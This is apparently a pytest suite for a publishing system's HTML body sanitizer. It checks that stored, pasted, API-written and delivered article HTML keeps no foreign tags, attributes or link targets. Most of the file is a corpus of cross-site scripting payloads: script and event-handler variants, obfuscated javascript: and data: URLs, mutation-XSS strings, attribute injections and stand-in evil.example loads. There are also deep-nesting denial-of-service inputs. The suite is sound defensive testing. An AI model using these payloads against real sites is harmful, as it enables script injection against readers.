"""Attacks on the body: none may leave an element, attribute or address that we did not write ourselves."""

import re
from html.parser import HTMLParser
from uuid import UUID

import pytest

from articles.text import body, sanitizer
from articles.text.block_json import BodyError, from_typed, to_typed
from articles.text.clipboard import clean_pasted

PHOTO = "0190b5a2-7c1e-7f00-8000-00000000abcd"

SCRIPT_FORMS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x src='https://evil.example/x.js'></script>",
    "<script\x0btype='text/javascript'>alert(1)</script>",
    "<script src=https://evil.example/x.js?<b>",
    "<script>a=/x/\nalert(a.source)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1);</script>",
    "</textarea><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<? echo('<scr)'; echo('ipt>alert(1)</script>'); ?>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "<a b='>' <script>alert(1)</script>",
]

HANDLER_FORMS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC='javascript:alert(1);'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img onmouseover=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<p onclick='alert(1)' onpointerenter=alert(1)>x</p>",
    "<p/onclick=alert(1)//>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<object data='javascript:alert(1)'></object>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>li{list-style-image:url('javascript:alert(1)')}</style><ul><li>x</ul>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='behavior:url(x.htc)' class=x id=y name=z slot=s is=i part=p>x</p>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<bgsound src='javascript:alert(1)'>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<x-custom onclick=alert(1) data-x=1>x</x-custom>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<a href=https://example.com onclick=alert(1) style=x target=_top ping=https://evil.example>x</a>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "\u2028javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.com/x",
    "file:///etc/passwd",
    "ftp://example.com/",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil",
    "https:///x",
    "https:\\\\evil.example",
    "https://good.example\\@evil.example/",
    "https://[bad",
    "http://",
    "https://:80/x",
    "https://user@/x",
    "../x",
    "#x",
    "?x",
    "mailto:",
    "article:",
    "article:1",
    "person:javascript:alert(1)",
    "work:-x",
    "article:javascript:alert(1)",
    f"article:{PHOTO} onclick=x",
    f"article:{{{PHOTO}}}",
    f'article:{PHOTO}" onclick=alert(1) x="',
    "https://example.com/" + "x" * 3000,
]

OWN_NODES = [
    "<figure data-photo='1 onload=x'></figure>",
    "<figure data-photo='\"><script>alert(1)</script>'></figure>",
    f"<figure data-photo='{PHOTO}\" onload=\"alert(1)'></figure>",
    f"<figure data-photo='{{{PHOTO}}}'></figure>",
    f"<figure data-photo='urn:uuid:{PHOTO}'></figure>",
    f"<figure data-photo='{PHOTO}\n'></figure>",
    f"<figure data-photo='{PHOTO}' data-layout='wide\" onload=\"alert(1)' onload=alert(1) style=x></figure>",
    f"<figure data-photo='{PHOTO}' data-alt='\"><img src=x onerror=alert(1)>'></figure>",
    f"<figure data-photo='{PHOTO}' data-alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"></figure>",
    f"<figure data-photo='{PHOTO}' data-decorative='\"onx=1'></figure>",
    f"<figure data-photo='{PHOTO}'><figcaption onclick=alert(1)><a href='javascript:alert(1)'>x</a><script>1</script></figcaption></figure>",
    f"<figure data-photo='{PHOTO}'><img src=x onerror=alert(1)><figcaption><p style=x>Bo</p></figcaption></figure>",
    f"<figure data-id='a\" onx=\"1' data-photo='{PHOTO}'></figure>",
    "<p data-id='\"><script>alert(1)</script>'>x</p>",
    "<p data-id='abcdef onclick=alert(1)'>x</p>",
    "<p data-id='ABCDEFG'>x</p>",
    "<p data-id='abcdef\u0000'>x</p>",
    "<p data-onclick=alert(1) data-embed=x data-photo=x>x</p>",
    "<blockquote data-cite='\"><svg onload=alert(1)>'>x</blockquote>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<aside data-pull-quote='\" onclick=\"alert(1)' data-cite='&lt;img src=x onerror=alert(1)&gt;'>x</aside>",
    f"<div data-gallery='\"onx=1' data-title='\"><script>1</script>'><figure data-photo='{PHOTO}' onx=1></figure></div>",
    "<div data-embed='javascript:alert(1)//https://www.youtube.com/watch?v=dQw4w9WgXcQ'></div>",
    "<div data-embed='https://evil.example/?u=https://www.youtube.com/watch?v=dQw4w9WgXcQ'></div>",
    "<div data-embed='https://www.youtube.com.evil.example/watch?v=dQw4w9WgXcQ'></div>",
    "<div data-embed='https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ'></div>",
    "<div data-embed='https://www.youtube.com/watch?v=dQw4w9WgXcQ\"><script>alert(1)</script>'></div>",
    "<div data-embed='https://bsky.app/profile/\"onx=1/post/3kabcdefgh2'></div>",
    "<div data-embed='data:text/html,<script>alert(1)</script>'></div>",
    "<div data-embed><iframe src='javascript:alert(1)'></iframe></div>",
    f"<div data-embed='https://youtu.be/dQw4w9WgXcQ' data-photo='{PHOTO}' onclick=alert(1) srcdoc=x></div>",
    f"<a href='article:{PHOTO}' onclick=alert(1) data-photo=x><b onclick=x>x</b></a>",
    "<hr onclick=alert(1) data-id='\"><script>'>",
    "<h1 onclick=x><img src=x onerror=alert(1)>Head</h1>",
    "<li><figure data-photo='<script>'>x</figure></li>",
]

CORPUS = [
    *SCRIPT_FORMS,
    *HANDLER_FORMS,
    *(f'<a href="{address}">x</a>' for address in ADDRESSES),
    *(f"<a href='{address}'>x</a>" for address in ADDRESSES),
    *(f"<a href={address}>x</a>" for address in ADDRESSES),
    *(f'<div data-embed="{address}"></div>' for address in ADDRESSES),
    *OWN_NODES,
]

ATTRIBUTES = {
    "a": {"href"},
    "p": {"data-id"},
    "h2": {"data-id"},
    "h3": {"data-id"},
    "h4": {"data-id"},
    "ul": {"data-id"},
    "ol": {"data-id"},
    "li": set(),
    "hr": {"data-id"},
    "br": set(),
    "strong": set(),
    "em": set(),
    "figcaption": set(),
    "blockquote": {"data-id", "data-cite"},
    "aside": {"data-id", "data-pull-quote", "data-cite"},
    "div": {"data-id", "data-gallery", "data-title", "data-embed"},
    "figure": {"data-id", "data-photo", "data-layout", "data-alt", "data-decorative"},
}
SAFE_HREF = re.compile(r"https?://[^/\\\s]+[^\\\s]*|mailto:[^\s]+|article:[0-9a-f-]{36}|(?:person|work):[a-z0-9-]+")
GOOD_VALUE = {
    "href": SAFE_HREF,
    "data-id": re.compile(r"[a-z0-9]{6,16}"),
    "data-photo": re.compile(r"[0-9a-f-]{36}"),
    "data-layout": re.compile("wide|inset|full|portrait"),
    "data-embed": re.compile(r"https://[a-z.]+/[\w.@?=&/%:-]+", re.ASCII),
    "data-pull-quote": re.compile(""),
    "data-gallery": re.compile(""),
    "data-decorative": re.compile(""),
}


class Inspector(HTMLParser):
    """Lists whatever is in the HTML that the stored form does not know."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ATTRIBUTES:
            self.faults.append(f"<{tag}>")
            return
        for name, value in attrs:
            good = GOOD_VALUE.get(name)
            if name not in ATTRIBUTES[tag] or (good and not good.fullmatch(value or "")):
                self.faults.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


def delivered(value) -> list[str]:
    """Every HTML string in the JSON of a body."""
    if isinstance(value, list):
        return [html for each in value for html in delivered(each)]
    if isinstance(value, dict):
        own = [text for name, text in value.items() if name in {"html", "caption_html"} and text]
        return own + [html for each in value.values() for html in delivered(each)]
    return []


def test_the_inspector_sees_what_it_should():
    assert faults("<p onclick=x>a<script></script><a href='javascript:x'>b</a><!-- c --><?d ?></p>") != []
    assert len(faults("<p onclick=x>a</p>")) == 1
    assert faults(f'<p data-id="abcdef">a<br><a href="article:{PHOTO}">b</a></p>') == []


@pytest.mark.parametrize("attack", CORPUS)
def test_no_attack_survives_in_the_stored_form(attack):
    for html in (attack, f"<p>before {attack} after</p>", f"<ul><li>{attack}</li></ul>", f"<blockquote>{attack}"):
        clean = body.sanitize(html)
        assert faults(clean) == []
        assert body.sanitize(clean) == clean


@pytest.mark.parametrize("attack", CORPUS)
def test_no_attack_survives_a_paste(attack):
    assert faults(clean_pasted(attack)) == []


@pytest.mark.parametrize("attack", CORPUS)
def test_no_attack_survives_into_delivered_json_of_a_raw_row(attack):
    for html in delivered(to_typed(body.split(attack))):
        assert faults(html) == []


@pytest.mark.parametrize("attack", CORPUS)
def test_no_attack_survives_the_write_api(attack):
    typed = [
        {"type": "paragraph", "html": f"<p>x {attack}</p>"},
        {"type": "photo", "photo": PHOTO, "alt": attack, "caption_html": f"x {attack}"},
        {"type": "quote", "html": "x", "cite": attack},
        {"type": "gallery", "title": attack, "photos": [{"photo": PHOTO, "alt": attack}]},
    ]
    for block in typed:
        try:
            assert faults(from_typed([block])) == []
        except BodyError:
            pass  # refused is safe, too


@pytest.mark.parametrize("attack", SCRIPT_FORMS[:4] + HANDLER_FORMS[:6])
def test_plain_text_values_keep_the_letters_of_an_attack_as_letters(attack):
    (photo,) = body.split(from_typed([{"type": "photo", "photo": PHOTO, "alt": attack}]))
    assert " ".join(photo.alt.split()) == " ".join(attack.replace("\x0b", " ").split())


@pytest.mark.parametrize("address", ADDRESSES)
def test_words_of_a_refused_link_stay(address):
    assert body.plain("".join(block.html for block in body.split(f'<a href="{address}">words</a>'))) == "words"


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("https://example.com/a?b=1&c=2#d", "https://example.com/a?b=1&c=2#d"),
        ("HTTPS://Example.com/A", "https://Example.com/A"),
        ("http://example.com", "http://example.com"),
        (" https://example.com/a b ", "https://example.com/a%20b"),
        ("MAILTO:desk@example.com", "mailto:desk@example.com"),
        (f"ARTICLE:{PHOTO.upper()}", f"article:{PHOTO}"),
        ("https://例え.jp/映画", "https://例え.jp/映画"),
    ],
)
def test_good_addresses_stay(written, stored):
    assert sanitizer.link_target(written) == stored


@pytest.mark.parametrize(
    "text", ["", PHOTO.replace("-", ""), f"{{{PHOTO}}}", f"{PHOTO} ", f"{PHOTO}\n", "1", f"urn:uuid:{PHOTO}"]
)
def test_only_the_usual_spelling_of_a_uuid_is_one(text):
    assert sanitizer.uuid(text) is None
    assert sanitizer.uuid(PHOTO.upper()) == UUID(PHOTO)


HOSTILE = [
    "<div>",
    "<b>",
    "<ul><li>",
    "<",
    "<!--",
    '<a "',
    "<table><tr><td>",
    "</p>",
    "<blockquote>",
    "<div></u>",
    "<div <x>>",
]
HOSTILE += [
    "<p><button>",
    "<object><div></div>",
    "<em>x<p>",
    "&#",
    "<svg><p>",
    f"<figure data-photo={PHOTO}>",
    "<!--><div>",
]


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_nesting_is_cleaned_in_good_time(unit):
    """200 KB of each once took seconds or the whole stack; a test run that hangs here says that it does again."""
    clean = body.sanitize(unit * (200_000 // len(unit)) + " the last words")
    assert ("the last words" in clean) == (unit != "<!--")
    assert body.sanitize(clean) == clean


def test_absurdly_nested_text_keeps_its_words_apart_and_in_order():
    html = "".join(f"<div>word{index} " for index in range(1000)) + "<p>one</p><p>two</p>"
    assert body.prose(body.split(html)).split()[-3:] == ["word999", "one", "two"]


@pytest.mark.parametrize("unit", ["<ul><li>x", "<blockquote>", "<b>", "<div data-gallery data-title=x>", "<p><em>"])
def test_nesting_just_within_reason_is_read_without_running_out_of_stack(unit):
    clean = body.sanitize(unit * 199 + "words")
    assert "words" in clean
    assert clean.count("<ul>") <= sanitizer.MAX_DEPTH


def test_a_text_nested_beyond_reason_keeps_its_words_and_loses_its_tags():
    assert body.sanitize("<div>" * 300 + "</div>" * 300 + "<h2>a</h2>") == "<p>a</p>"
    assert body.sanitize("<div></div>" * 300 + "<p>b<!-- <x> --><br>" * 300 + "<h2>a</h2>").endswith("<h2>a</h2>")


def test_words_below_the_deepest_level_stay_apart():
    html = "<div>" * 60 + "<p>one</p><p>two</p>" + "</div>" * 60
    assert body.prose(body.split(html)).split() == ["one", "two"]


def test_control_characters_and_lone_surrogates_are_dropped():
    assert body.sanitize("<p>a\x00b\x1bc\ud800d\x9fe\uffff</p>") == "<p>abcde</p>"
